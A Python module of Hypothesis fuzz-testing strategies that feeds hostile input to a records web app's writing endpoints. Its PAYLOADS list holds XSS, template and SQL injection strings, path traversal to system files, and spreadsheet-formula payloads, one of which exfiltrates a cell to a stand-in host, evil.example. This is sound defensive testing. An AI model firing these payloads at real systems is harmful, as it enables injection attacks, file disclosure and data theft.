"""Hypothesis strategies for the fuzz tests: hostile text of every kind, JSON values of every type,
dates, coordinates, links, e-mail addresses, and which endpoints write; ``fuzz`` sets the runs."""
from __future__ import annotations

import datetime
import re

from hypothesis import HealthCheck, Phase, settings
from hypothesis import strategies as st

from incidents.models import ACQUISITIONS, ORIGINALITY
from tests.guarantees.fuzz.expectations import LONE_SURROGATE, Text, normalised, url_problem


def fuzz(examples: int):
    """Settings for these tests. The app, its users and their records are pytest fixtures, built
    once per test rather than once per example (hence the function_scoped_fixture health check is
    suppressed): every property compares the database before and after its own request, so what an
    earlier example stored never decides a later one. No example database: nothing is written
    into the repository. No shrinking: an example costs several requests, and shrinking a failure
    took Hypothesis over ten minutes; the failing example is reported as found (``pytest -l``
    shows it), to be kept as an @example once understood."""
    return settings(max_examples=examples, deadline=None, database=None,
                    phases=[Phase.explicit, Phase.generate],
                    suppress_health_check=[HealthCheck.function_scoped_fixture])


WRITING_METHODS = {"POST", "PUT", "PATCH", "DELETE"}


def writing_rules(app):
    return [rule for rule in app.url_map.iter_rules() if rule.methods & WRITING_METHODS]


BIDI = [chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A))]
ZERO_WIDTH = ["\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2060", "\ufeff", "\u061c"]
CONTROLS = [chr(c) for c in (*range(0x00, 0x20), *range(0x7F, 0xA0))]
LINE_BREAKS = ["\n", "\r", "\r\n", "\u2028", "\u2029"]
PAYLOADS = [
    '<script>alert("x")</script>', '"><img src=x onerror=alert(1)>', "javascript:alert(1)",
    "<svg/onload=alert(1)>", "{{ 7*7 }}", "${7*7}", "</textarea><b>",
    "'; DROP TABLE incident;--", "1 OR 1=1", "' OR '1'='1", '" OR ""="', "1; SELECT * FROM user --",
    '=HYPERLINK("https://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
    "=1+1", "\t=1", "\r=1", "%00", "../../etc/passwd", "C:\\Windows\\win.ini",
    "Саратов", "ОТБ-1", "e\u0301", "\u0301", "😀", "\ufffd",
]


def hostile_text(surrogates: bool = False):
    """Text built of random characters, payloads, controls, bidi and zero-width characters.

    Lone surrogates only where the transport carries them: JSON escapes them ("\\ud800"), while
    a form is UTF-8 on the wire, which cannot encode them.
    """
    alphabet = st.characters() if surrogates else st.characters(exclude_categories=["Cs"])
    piece = st.one_of(st.text(alphabet, max_size=12), st.sampled_from(PAYLOADS),
                      st.sampled_from(BIDI + ZERO_WIDTH + CONTROLS + LINE_BREAKS))
    return st.lists(piece, max_size=5).map("".join)


def near_limit(limit: int):
    """Text about as long as a field allows: just under, at and just over, with something at the
    end (a combining accent counts once NFC has composed it; blanks vanish when stripped)."""
    return st.builds(lambda unit, count, tail: unit * count + tail,
                     st.sampled_from(["a", "я", "😀", "e\u0301", " "]),
                     st.integers(max(limit - 2, 0), limit + 2), st.sampled_from(["", "\x00", "\u202e", " ", "x"]))


def text_for(spec: Text, surrogates: bool = False):
    return st.one_of(hostile_text(surrogates), near_limit(spec.max_length))


@st.composite
def text_changes(draw, specs: dict, surrogates: bool = False, min_size: int = 1):
    """Up to three fields, each with a hostile value: [(form field name, value), ...]."""
    names = draw(st.lists(st.sampled_from(sorted(specs)), min_size=min_size, max_size=3, unique=True))
    return [(name, draw(text_for(specs[name], surrogates))) for name in names]


# JSON values of every type, nested, for fields that expect something else.
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(-2**70, 2**70),
                         st.floats(allow_nan=False, allow_infinity=False), hostile_text(surrogates=True))
json_values = st.recursive(json_scalars, lambda inner: st.one_of(
    st.lists(inner, max_size=4), st.dictionaries(hostile_text(surrogates=True), inner, max_size=4)), max_leaves=12)


MALFORMED_DATES = [
    "2020-13-45", "0000-00-00", "99999-01-01", "yesterday", "2020-02-30", "2021-02-29", "2020-00-10",
    "2020-01-00", "2020-03-15T10:00:00+03:00", "2020-03-15T10:00:00Z", "2020-03-15 10:00", "2020/03/15",
    "15/03/2020", "31.02.2020", "2020-3-15-1", "9999-12-31", "2020-W01-8",
    "2020-03-15\x00", "\u202e2020-03-15", "-2020-01-01", "+2020-01-01", "2020-1e1-01", "2020-03-15 x",
]


any_number = st.one_of(st.booleans(), st.integers(-2**70, 2**70), st.floats())
any_list = st.lists(json_values, max_size=3)
any_object = st.dictionaries(st.text(max_size=5), json_values, max_size=3)


def written_forms(day: datetime.date) -> list[str]:
    """The ways a day may be written in any date field (an incident's, a response's, a file's)."""
    return [day.isoformat(), f"{day.year}-{day.month}-{day.day}", f"{day:%d.%m.%Y}", f"{day.day}.{day.month}.{day.year}"]


past_days = st.dates(min_value=datetime.date(1900, 1, 1), max_value=datetime.date.today())
malformed_dates = st.one_of(
    st.sampled_from(MALFORMED_DATES),
    st.builds("{:04d}-{:02d}-{:02d}".format, st.integers(1900, 2020), st.integers(13, 99), st.integers(1, 28)),
    st.builds("{:04d}-{:02d}-{:02d}".format, st.integers(1900, 2020), st.integers(1, 12), st.integers(32, 99)),
    st.builds("{}-01-01".format, st.integers(10_000, 10**9)),
    st.builds(datetime.date.isoformat, st.dates(min_value=datetime.date.today() + datetime.timedelta(days=1))),
    st.builds(lambda day, zone: day.isoformat() + zone, past_days,
              st.sampled_from(["T00:00", "Z", "+03:00", "T12:00:00-05:00"])),
    hostile_text().filter(lambda s: s.strip() and not re.search(r"\d", s)),
)


def date_cases(before_1900: bool = False):
    """(the day, as written) for a real past day, or (None, text) for text that is no such day.

    An incident's dates start in 1900; an evidence item's may be older (a scan of an old photo).
    """
    written = past_days.flatmap(lambda day: st.tuples(
        st.just(day), st.sampled_from(written_forms(day))))
    early = st.tuples(st.none(), st.sampled_from(["1899-12-31", "0001-01-01"]))
    return st.one_of(written, st.tuples(st.none(), malformed_dates), *([] if before_1900 else [early]))


coordinates = st.one_of(st.none(), st.just(""), st.floats(), st.integers(-400, 400), st.booleans(),
                        st.builds(str, st.floats()), st.sampled_from(["45", " 45 ", "4_5", "NaN", "1e400", "٤٥"]),
                        hostile_text(), any_list)


urls = st.one_of(
    hostile_text(surrogates=True),
    st.builds("{}{}/{}".format,
              st.sampled_from(["https://", "http://", "HTTPS://", "ftp://", "javascript:", "data:text/html,",
                               "file://", "//", ""]),
              st.sampled_from(["example.org", "[::1", "[::1]", "", "пример.рф", "a" * 2100, "exa mple.org"]),
              hostile_text(surrogates=True)))


def choice(allowed):
    return st.one_of(st.sampled_from(allowed), hostile_text(surrogates=True), json_values)


LINK = {"kind": "220904051501", "url": "https://example.org/video", "received_on": "", "captured_on": "",
        "acquisition": "", "originality": ""}


@st.composite
def link_fields(draw, as_json: bool):
    """A link's fields, valid but for at most one hostile value (so that a good share of links
    are taken): (fields, {error key: messages}, {field: value as stored})."""
    fields, stored, expected = dict(LINK), {"url": LINK["url"], "received_on": None, "captured_on": None}, {}
    field = draw(st.sampled_from(["url", "received_on", "captured_on", "acquisition", "originality", None]))
    if field == "url":
        fields["url"] = draw(urls if as_json else urls.filter(lambda u: not LONE_SURROGATE.search(u)))
        stored["url"] = normalised(fields["url"])
        if url_problem(fields["url"]):
            expected["link-url"] = {url_problem(fields["url"])}
    elif field in ("received_on", "captured_on"):
        day, fields[field] = draw(date_cases(before_1900=True))
        stored[field] = day.isoformat() if day else None  # a day, kept as ISO text like a month or a year
        if day is None:
            expected[field] = {"Must be a date such as 2020-03-15, 2020-03 or 2020.", "This date is in the future."}
    elif field is not None:
        allowed = ACQUISITIONS if field == "acquisition" else ORIGINALITY
        fields[field] = draw(choice(allowed) if as_json else st.one_of(st.sampled_from(allowed), hostile_text()))
        if fields[field] and fields[field] not in allowed:
            expected[field] = {"Unknown value"}
    return fields, expected, stored


def url_arguments(world) -> dict:
    """Values for every argument a writing route takes; a route with a new one fails here first."""
    return {"incident_id": world.incident.id, "item_id": world.item.id, "facility_id": world.facility.id,
            "user_id": world.users["researcher"].id, "secret": "no-such-link", "token": "A" * 43,
            "notification_id": 1}


def not_in(allowed, blank_allowed: bool = True):
    """Form values outside ``allowed`` (and not blank, when blank means "the default")."""
    return hostile_text().filter(lambda v: v not in allowed and (v != "" or not blank_allowed))


emails = st.one_of(hostile_text(), st.builds("{}@{}".format, hostile_text(), hostile_text()),
                   st.builds("person{}@example.org".format, st.integers(0, 10**9)),
                   st.sampled_from(["new@example.org", " New@Example.org ", "a\x00b@example.org",
                                    "\u202eorg.elpmaxe@a", "a b@example.org", "@", "x@" + "a" * 260]))
